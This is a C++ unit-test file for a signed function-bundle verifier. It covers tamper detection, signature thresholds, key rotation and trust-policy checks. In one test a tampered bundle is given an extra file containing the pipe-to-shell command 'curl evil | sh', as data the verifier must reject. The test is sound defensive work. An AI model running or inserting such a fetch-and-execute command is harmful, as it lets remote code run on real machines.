#include "bundle/verify/bundle_verifier.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <functional>

#include "core/file.h"
#include "core/json.h"
#include "formats/zstd/zstd.h"
#include "provenance/signing/dsse.h"
#include "provenance/statement/statement.h"
#include "provenance/verification/trust_policy.h"
#include "provenance/verification/test_policy.h"
#include "tests/support/status_matchers.h"
#include "tests/support/test_dir.h"

using ::fnseal::test::IsOk;

namespace fnseal {
namespace {

using ::fnseal::test::BasePolicyJson;
using ::fnseal::test::PolicyKeyJson;
using ::fnseal::test::ReadTestFile;

using ::testing::ElementsAre;
using ::testing::HasSubstr;

constexpr const char* kBuilder = test::kTestBuilder;
constexpr char kSourceUri[] = "git+https://github.com/example/hello@refs/heads/main";

PrivateKey LoadKey(const std::string& name) {
  Result<std::string> pem = ReadFile("testdata/keys/" + name);
  EXPECT_THAT(pem, IsOk());
  Result<PrivateKey> key = PrivateKey::FromPem(*pem);
  EXPECT_THAT(key, IsOk());
  return std::move(key).value();
}

class BundleVerifierTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = test::FreshTestDir();
    // A function artifact: an executable bootstrap and a data file.
    std::vector<ArchiveInput> inputs(2);
    inputs[0].path = "bootstrap";
    inputs[0].content = "#!/bin/sh\necho hello\n";
    inputs[0].executable = true;
    inputs[1].path = "data/greeting.txt";
    inputs[1].content = "hello\n";
    Result<TarPlan> plan = PlanTar(inputs);
    ASSERT_THAT(plan, IsOk());
    StringSink tar;
    ASSERT_THAT(WriteTar(*plan, &tar), IsOk());
    ASSERT_THAT(WriteFileAtomic(dir_ + "/artifact.tar", tar.data()), IsOk());

    BundleSpec spec;
    spec.function_name = "hello";
    spec.entrypoint = "bootstrap";
    spec.runtime = "provided.al2023";
    spec.artifact_path = dir_ + "/artifact.tar";
    spec.provenance.builder_id = kBuilder;
    spec.provenance.resolved_dependencies.push_back({"greeting.txt", "", std::string(64, 'a'), ""});
    spec.provenance.resolved_dependencies.push_back({"source", kSourceUri, std::string(64, 'b'), ""});
    unsigned_ = dir_ + "/unsigned.fnb";
    signed_ = dir_ + "/signed.fnb";
    Status built = BuildBundle(spec, unsigned_);
    ASSERT_THAT(built, IsOk());
    Status signed_ok = SignBundle(unsigned_, {key_a_}, signed_);
    ASSERT_THAT(signed_ok, IsOk());
  }

  Result<Verification> Verify(const std::string& path, int threshold = 1) {
    return VerifyBundle(path, {key_a_.public_key()}, threshold);
  }

  // Rewrites the signed bundle through `edit` (given the files and attestations) as a new,
  // well-formed bundle, so that only the verifier's checks can catch the change.
  std::string Tamper(const std::function<void(std::vector<ArchiveInput>*)>& edit) {
    Result<BundleContents> contents = ReadBundle(signed_, /*keep_contents=*/true);
    EXPECT_THAT(contents, IsOk());
    std::vector<ArchiveInput> files;
    for (BundleFile& f : contents->files) {
      ArchiveInput input;
      input.path = f.path;
      input.content = f.content;
      files.push_back(input);
    }
    for (auto& [path, bytes] : contents->attestations) {
      ArchiveInput input;
      input.path = path;
      input.content = bytes;
      files.push_back(input);
    }
    edit(&files);
    std::string out = dir_ + "/tampered.fnb";
    Status written = WriteBundleArchive(files, out, ZstdOptions{});
    EXPECT_THAT(written, IsOk());
    return out;
  }

  // Rewrites the provenance envelope through `edit`.
  std::string TamperEnvelope(const std::function<void(DsseEnvelope*)>& edit) {
    return Tamper([&](std::vector<ArchiveInput>* files) {
      for (ArchiveInput& f : *files) {
        if (f.path != "attestations/provenance.dsse.json") continue;
        Result<DsseEnvelope> envelope = ParseDsseEnvelope(f.content);
        ASSERT_THAT(envelope, IsOk());
        edit(&*envelope);
        f.content = SerializeDsseEnvelope(*envelope);
      }
    });
  }

  static ArchiveInput* Find(std::vector<ArchiveInput>* files, const std::string& path) {
    for (ArchiveInput& f : *files) {
      if (f.path == path) return &f;
    }
    ADD_FAILURE() << "no " << path << " in the bundle";
    return &files->front();
  }

  PrivateKey key_a_ = LoadKey("ed25519.pem");
  PrivateKey key_b_ = LoadKey("ed25519-b.pem");
  std::string dir_;
  std::string unsigned_;
  std::string signed_;
};

void ExpectRejected(const Result<Verification>& result, StatusCode code, const std::string& fragment) {
  ASSERT_FALSE(result.ok()) << "the bundle verified";
  EXPECT_EQ(result.status().code(), code) << result.status().ToString();
  EXPECT_THAT(result.status().message(), HasSubstr(fragment));
}

TEST_F(BundleVerifierTest, AcceptsASignedBundleAndReportsWhatItHolds) {
  Result<Verification> result = Verify(signed_);
  ASSERT_THAT(result, IsOk());
  EXPECT_EQ(result->kind, "bundle");
  ASSERT_TRUE(result->function.has_value());
  EXPECT_EQ(result->function->name, "hello");
  EXPECT_EQ(result->function->entrypoint, "bootstrap");
  ASSERT_EQ(result->files.size(), 2u);
  EXPECT_EQ(result->files[0].path, "artifacts/hello.tar");
  EXPECT_EQ(result->files[1].path, "manifest.json");
  EXPECT_EQ(result->key_ids, std::vector<std::string>{key_a_.public_key().key_id()});
  ASSERT_EQ(result->statements.size(), 1u);
  EXPECT_EQ(result->statements[0].name, "attestations/provenance.dsse.json");
  EXPECT_EQ(result->statements[0].predicate_type, kSlsaProvenanceV1);
  // The verified statement is handed back as the exact signed payload bytes.
  Result<BundleContents> contents = ReadBundle(signed_, /*keep_contents=*/false);
  ASSERT_THAT(contents, IsOk());
  Result<DsseEnvelope> envelope = ParseDsseEnvelope(contents->attestations.at("attestations/provenance.dsse.json"));
  ASSERT_THAT(envelope, IsOk());
  EXPECT_EQ(result->statements[0].payload, envelope->payload);
}

TEST_F(BundleVerifierTest, SigningIsDeterministic) {
  std::string again = dir_ + "/signed-again.fnb";
  ASSERT_THAT(SignBundle(unsigned_, {key_a_}, again), IsOk());
  EXPECT_EQ(*ReadFile(again), *ReadFile(signed_));
}

TEST_F(BundleVerifierTest, RejectsAnUnsignedBundle) {
  ExpectRejected(Verify(unsigned_), StatusCode::kPermissionDenied, "bundle is not signed");
}

TEST_F(BundleVerifierTest, RejectsAChangedByteInTheArtifact) {
  std::string path = Tamper([](std::vector<ArchiveInput>* files) {
    Find(files, "artifacts/hello.tar")->content[600] ^= 1;
  });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied,
                 "bundle file 'artifacts/hello.tar' does not match its signed digest");
}

TEST_F(BundleVerifierTest, RejectsAChangedByteInTheManifest) {
  std::string path = Tamper([](std::vector<ArchiveInput>* files) { Find(files, "manifest.json")->content[5] ^= 1; });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied,
                 "bundle file 'manifest.json' does not match its signed digest");
}

TEST_F(BundleVerifierTest, RejectsAChangedByteInTheSignedPayload) {
  std::string path = TamperEnvelope([](DsseEnvelope* e) { e->payload[10] ^= 1; });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied, "no signature verifies with a trusted key");
}

TEST_F(BundleVerifierTest, RejectsAnExtraFile) {
  std::string path = Tamper([](std::vector<ArchiveInput>* files) {
    ArchiveInput extra;
    extra.path = "artifacts/extra.sh";
    extra.content = "curl evil | sh\n";
    files->push_back(extra);
  });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied,
                 "bundle file 'artifacts/extra.sh' is not named by any signed statement");
}

TEST_F(BundleVerifierTest, RejectsAMissingFile) {
  std::string path = Tamper([](std::vector<ArchiveInput>* files) {
    files->erase(std::remove_if(files->begin(), files->end(),
                                [](const ArchiveInput& f) { return f.path == "artifacts/hello.tar"; }),
                 files->end());
  });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied,
                 "bundle is missing 'artifacts/hello.tar', which a signed statement names");
}

TEST_F(BundleVerifierTest, RejectsAChangedPayloadType) {
  std::string path = TamperEnvelope([](DsseEnvelope* e) { e->payload_type = "application/json"; });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied, "no signature verifies with a trusted key");
}

TEST_F(BundleVerifierTest, RejectsAWrongPayloadTypeEvenWhenValidlySigned) {
  std::string path = TamperEnvelope([&](DsseEnvelope* e) {
    e->payload_type = "application/json";
    e->signatures.clear();
    ASSERT_THAT(AddDsseSignature(e, key_a_), IsOk());
  });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied, "payload type 'application/json' is not");
}

TEST_F(BundleVerifierTest, RejectsASignatureByAnotherKey) {
  std::string other = dir_ + "/other.fnb";
  ASSERT_THAT(SignBundle(unsigned_, {key_b_}, other), IsOk());
  ExpectRejected(Verify(other), StatusCode::kPermissionDenied, "no signature verifies with a trusted key");
}

TEST_F(BundleVerifierTest, KeyIdInTheBundleDoesNotChooseTheKey) {
  // Re-sign with key B but claim key A's id: still rejected when only A is trusted.
  std::string path = TamperEnvelope([&](DsseEnvelope* e) {
    e->signatures.clear();
    ASSERT_THAT(AddDsseSignature(e, key_b_), IsOk());
    e->signatures[0].keyid = key_a_.public_key().key_id();
  });
  ExpectRejected(Verify(path), StatusCode::kPermissionDenied, "no signature verifies with a trusted key");
}

TEST_F(BundleVerifierTest, ThresholdCountsDistinctKeys) {
  std::string both = dir_ + "/both.fnb";
  ASSERT_THAT(SignBundle(signed_, {key_b_}, both), IsOk());
  Result<Verification> ok = VerifyBundle(both, {key_a_.public_key(), key_b_.public_key()}, 2);
  ASSERT_THAT(ok, IsOk());
  EXPECT_EQ(ok->key_ids.size(), 2u);
  // The same signature twice does not make two signers.
  std::string doubled = TamperEnvelope([](DsseEnvelope* e) { e->signatures.push_back(e->signatures[0]); });
  ExpectRejected(VerifyBundle(doubled, {key_a_.public_key(), key_b_.public_key()}, 2),
                 StatusCode::kPermissionDenied, "1 of 2 trusted keys signed");
}

TEST_F(BundleVerifierTest, SigningTwiceWithTheSameKeyIsRefused) {
  Status again = SignBundle(signed_, {key_a_}, dir_ + "/again.fnb");
  EXPECT_EQ(again.code(), StatusCode::kFailedPrecondition);
  EXPECT_THAT(again.message(), HasSubstr("already signed"));
}

TEST_F(BundleVerifierTest, RejectsATruncatedBundle) {
  std::string bytes = *ReadFile(signed_);
  for (size_t keep : {size_t{0}, size_t{3}, size_t{20}, bytes.size() / 2, bytes.size() - 1}) {
    std::string path = dir_ + "/truncated.fnb";
    ASSERT_THAT(WriteFileAtomic(path, bytes.substr(0, keep)), IsOk());
    Result<Verification> result = Verify(path);
    ASSERT_FALSE(result.ok()) << "verified a bundle truncated to " << keep << " bytes";
    EXPECT_EQ(result.status().code(), StatusCode::kDataLoss) << keep << ": " << result.status().ToString();
  }
}

TEST_F(BundleVerifierTest, RejectsAFlippedBitInTheCompressedBundle) {
  std::string bytes = *ReadFile(signed_);
  bytes[bytes.size() / 2] ^= 0x10;
  std::string path = dir_ + "/flipped.fnb";
  ASSERT_THAT(WriteFileAtomic(path, bytes), IsOk());
  Result<Verification> result = Verify(path);
  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), StatusCode::kDataLoss) << result.status().ToString();
}

TEST_F(BundleVerifierTest, RejectsTrailingBytesAfterTheBundle) {
  std::string path = dir_ + "/trailing.fnb";
  ASSERT_THAT(WriteFileAtomic(path, *ReadFile(signed_) + "x"), IsOk());
  ExpectRejected(Verify(path), StatusCode::kDataLoss, "trailing data");
}

TEST_F(BundleVerifierTest, ReportsAMissingBundleAsNotFound) {
  ExpectRejected(Verify(dir_ + "/nope.fnb"), StatusCode::kNotFound, "nope.fnb");
}


// --- VerifyBundleWithPolicy: a trust policy (provenance/verification/trust_policy.h) applied to
// the bundle of the fixture above.

constexpr int64_t k2026_01_01 = 1767225600;
constexpr int64_t k2026_06_01 = 1780272000;  // "now" in these tests
constexpr int64_t k2027_01_01 = 1798761600;



// The fixture's bundle signed by key A (signed_a_), key B (signed_b_) and both (signed_ab_).
class BundlePolicyTest : public BundleVerifierTest {
 protected:
  void SetUp() override {
    BundleVerifierTest::SetUp();
    signed_a_ = signed_;
    signed_b_ = dir_ + "/b.fnb";
    signed_ab_ = dir_ + "/ab.fnb";
    ASSERT_THAT(SignBundle(unsigned_, {key_b_}, signed_b_), IsOk());
    ASSERT_THAT(SignBundle(unsigned_, {key_a_, key_b_}, signed_ab_), IsOk());
  }

  static TrustPolicy Policy(const Json& doc) {
    Result<TrustPolicy> policy = ParseTrustPolicy(doc.dump());
    EXPECT_THAT(policy, IsOk());
    return std::move(policy).value();
  }

  // Key A valid in 2025 only, key B from 2026: a rotation.
  static Json RotationPolicy() {
    Json doc = BasePolicyJson();
    doc["keys"] = {PolicyKeyJson("release-2025", "ed25519.pub.pem", "2025-01-01T00:00:00Z", "2026-01-01T00:00:00Z"),
                   PolicyKeyJson("release-2026", "ed25519-b.pub.pem", "2026-01-01T00:00:00Z", "2027-01-01T00:00:00Z")};
    return doc;
  }

  std::string signed_a_;
  std::string signed_b_;
  std::string signed_ab_;
};

void ExpectRejected(const Result<PolicyVerification>& result, StatusCode code, const std::string& fragment) {
  ASSERT_FALSE(result.ok()) << "the bundle was accepted";
  EXPECT_EQ(result.status().code(), code) << result.status().ToString();
  EXPECT_THAT(result.status().message(), HasSubstr(fragment));
}

void ExpectRejected(const Result<PolicyVerification>& result, const std::string& fragment) {
  ExpectRejected(result, StatusCode::kPermissionDenied, fragment);
}

TEST_F(BundlePolicyTest, AcceptsABundleThatMeetsThePolicy) {
  Json doc = BasePolicyJson();
  doc["sourceRepositories"] = {{{"uriPrefix", "git+https://github.com/example/"}}};
  Result<PolicyVerification> result = VerifyBundleWithPolicy(signed_a_, Policy(doc), k2026_06_01);
  ASSERT_THAT(result, IsOk());
  EXPECT_EQ(result->verified_at, k2026_06_01);
  EXPECT_THAT(result->key_names, ElementsAre("release-2026"));
  EXPECT_THAT(result->builder_ids, ElementsAre(kBuilder));
  EXPECT_THAT(result->source_uris, ElementsAre(kSourceUri));
  ASSERT_TRUE(result->verified.function.has_value());
  EXPECT_EQ(result->verified.function->name, "hello");
  ASSERT_EQ(result->verified.statements.size(), 1u);
  EXPECT_EQ(ParseStatement(result->verified.statements[0].payload)->predicate_type, kSlsaProvenanceV1);
}

TEST_F(BundlePolicyTest, WindowStartIsInclusiveAndEndExclusive) {
  TrustPolicy policy = Policy(BasePolicyJson());
  EXPECT_THAT(VerifyBundleWithPolicy(signed_a_, policy, k2026_01_01), IsOk());
  EXPECT_THAT(VerifyBundleWithPolicy(signed_a_, policy, k2027_01_01 - 1), IsOk());
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, policy, k2027_01_01), "expired at 2027-01-01T00:00:00Z");
}

TEST_F(BundlePolicyTest, RejectsAKeyThatIsNotYetValid) {
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, Policy(BasePolicyJson()), k2026_01_01 - 1),
                 "policy rule 'keys': 0 of 1 keys are valid at 2025-12-31T23:59:59Z but the threshold is 1: "
                 "key 'release-2026' is not valid until 2026-01-01T00:00:00Z");
}

TEST_F(BundlePolicyTest, RejectsAnExpiredKey) {
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, Policy(RotationPolicy()), k2026_06_01),
                 "policy rule 'signatures': attestations/provenance.dsse.json: no signature verifies with a trusted "
                 "key");
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, Policy(RotationPolicy()), k2026_06_01),
                 "(not counted at 2026-06-01T00:00:00Z: key 'release-2025' expired at 2026-01-01T00:00:00Z)");
  Json only_old = BasePolicyJson();
  only_old["keys"] =
      Json::array({PolicyKeyJson("release-2025", "ed25519.pub.pem", "2025-01-01T00:00:00Z", "2026-01-01T00:00:00Z")});
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, Policy(only_old), k2026_06_01),
                 "policy rule 'keys': 0 of 1 keys are valid at 2026-06-01T00:00:00Z but the threshold is 1: "
                 "key 'release-2025' expired at 2026-01-01T00:00:00Z");
}

TEST_F(BundlePolicyTest, RotationAcceptsTheKeyOfTheDay) {
  TrustPolicy policy = Policy(RotationPolicy());
  Result<PolicyVerification> old_key = VerifyBundleWithPolicy(signed_a_, policy, k2026_01_01 - 1);
  ASSERT_THAT(old_key, IsOk());
  EXPECT_THAT(old_key->key_names, ElementsAre("release-2025"));
  Result<PolicyVerification> new_key = VerifyBundleWithPolicy(signed_b_, policy, k2026_06_01);
  ASSERT_THAT(new_key, IsOk());
  EXPECT_THAT(new_key->key_names, ElementsAre("release-2026"));
  // Signed by both: only the key valid now is reported.
  Result<PolicyVerification> both = VerifyBundleWithPolicy(signed_ab_, policy, k2026_06_01);
  ASSERT_THAT(both, IsOk());
  EXPECT_THAT(both->key_names, ElementsAre("release-2026"));
}

TEST_F(BundlePolicyTest, RequiresTwoSignaturesWhenTheThresholdIsTwo) {
  Json doc = BasePolicyJson();
  doc["keys"].push_back(PolicyKeyJson("release-2026-b", "ed25519-b.pub.pem"));
  doc["threshold"] = 2;
  TrustPolicy policy = Policy(doc);
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, policy, k2026_06_01),
                 "policy rule 'signatures': attestations/provenance.dsse.json: ");
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, policy, k2026_06_01), "1 of 2 trusted keys signed");
  Result<PolicyVerification> both = VerifyBundleWithPolicy(signed_ab_, policy, k2026_06_01);
  ASSERT_THAT(both, IsOk());
  EXPECT_THAT(both->key_names, ElementsAre("release-2026", "release-2026-b"));
  // With key A out of its window only one key can count, so the threshold cannot be met.
  ExpectRejected(VerifyBundleWithPolicy(signed_ab_, policy, k2027_01_01),
                 "policy rule 'keys': 1 of 2 keys are valid at 2027-01-01T00:00:00Z but the threshold is 2: "
                 "key 'release-2026' expired at 2027-01-01T00:00:00Z");
}

TEST_F(BundlePolicyTest, RejectsAPredicateTypeThePolicyDoesNotAccept) {
  Json doc = BasePolicyJson();
  doc["predicateTypes"] = Json::array({"https://spdx.dev/Document"});
  doc.erase("builders");
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, Policy(doc), k2026_06_01),
                 "policy rule 'predicateTypes': attestations/provenance.dsse.json: predicate type "
                 "'https://slsa.dev/provenance/v1' is not accepted");
}

TEST_F(BundlePolicyTest, RejectsABuilderNotAcceptedExactly) {
  Json doc = BasePolicyJson();
  doc["builders"] = {{{"id", std::string(kBuilder) + "/v2"}}, {{"id", "https://fnseal.dev/builders/tes"}}};
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, Policy(doc), k2026_06_01),
                 "policy rule 'builders': attestations/provenance.dsse.json: builder id "
                 "'https://fnseal.dev/builders/test' is not accepted");
}

TEST_F(BundlePolicyTest, MatchesBuilderPrefixes) {
  Json accepted = BasePolicyJson();
  accepted["builders"] = {{{"idPrefix", "https://fnseal.dev/builders/"}}};
  EXPECT_THAT(VerifyBundleWithPolicy(signed_a_, Policy(accepted), k2026_06_01), IsOk());
  Json rejected = BasePolicyJson();
  rejected["builders"] = {{{"idPrefix", "https://ci.example.com/"}},
                          {{"idPrefix", "https://fnseal.dev/builders/test/"}}};
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, Policy(rejected), k2026_06_01),
                 "policy rule 'builders': attestations/provenance.dsse.json: builder id "
                 "'https://fnseal.dev/builders/test' is not accepted");
}

TEST_F(BundlePolicyTest, RejectsASourceRepositoryMismatch) {
  Json doc = BasePolicyJson();
  doc["sourceRepositories"] = {{{"uri", "git+https://github.com/example/hello@refs/heads/release"}},
                               {{"uriPrefix", "git+https://github.com/other/"}}};
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, Policy(doc), k2026_06_01),
                 "policy rule 'sourceRepositories': attestations/provenance.dsse.json: no resolved dependency comes "
                 "from an accepted source repository (uris: 'git+https://github.com/example/hello@refs/heads/main')");
  Json exact = BasePolicyJson();
  exact["sourceRepositories"] = {{{"uri", kSourceUri}}};
  EXPECT_THAT(VerifyBundleWithPolicy(signed_a_, Policy(exact), k2026_06_01), IsOk());
}

TEST_F(BundlePolicyTest, AppliesThePolicyLimits) {
  Json bundle = BasePolicyJson();
  bundle["limits"] = {{"maxBundleBytes", 100}};
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, Policy(bundle), k2026_06_01), StatusCode::kResourceExhausted,
                 "policy rule 'limits': bundle is ");
  Json attestation = BasePolicyJson();
  attestation["limits"] = {{"maxAttestationBytes", 100}};
  ExpectRejected(VerifyBundleWithPolicy(signed_a_, Policy(attestation), k2026_06_01), StatusCode::kResourceExhausted,
                 "policy rule 'limits': ");
  Json roomy = BasePolicyJson();
  roomy["limits"] = {{"maxBundleBytes", 1 << 20}, {"maxAttestationBytes", 1 << 20}};
  EXPECT_THAT(VerifyBundleWithPolicy(signed_a_, Policy(roomy), k2026_06_01), IsOk());
}

TEST_F(BundlePolicyTest, NamesTheRuleForIntegrityFailures) {
  ExpectRejected(VerifyBundleWithPolicy(unsigned_, Policy(BasePolicyJson()), k2026_06_01),
                 "policy rule 'signatures': bundle is not signed");
  const std::string truncated = dir_ + "/truncated.fnb";
  ASSERT_THAT(WriteFileAtomic(truncated, ReadTestFile(signed_a_).substr(0, 40)), IsOk());
  ExpectRejected(VerifyBundleWithPolicy(truncated, Policy(BasePolicyJson()), k2026_06_01), StatusCode::kDataLoss,
                 "policy rule 'archive': ");
  ExpectRejected(VerifyBundleWithPolicy(dir_ + "/nope.fnb", Policy(BasePolicyJson()), k2026_06_01), StatusCode::kNotFound,
                 "nope.fnb");
}

}  // namespace
}  // namespace fnseal
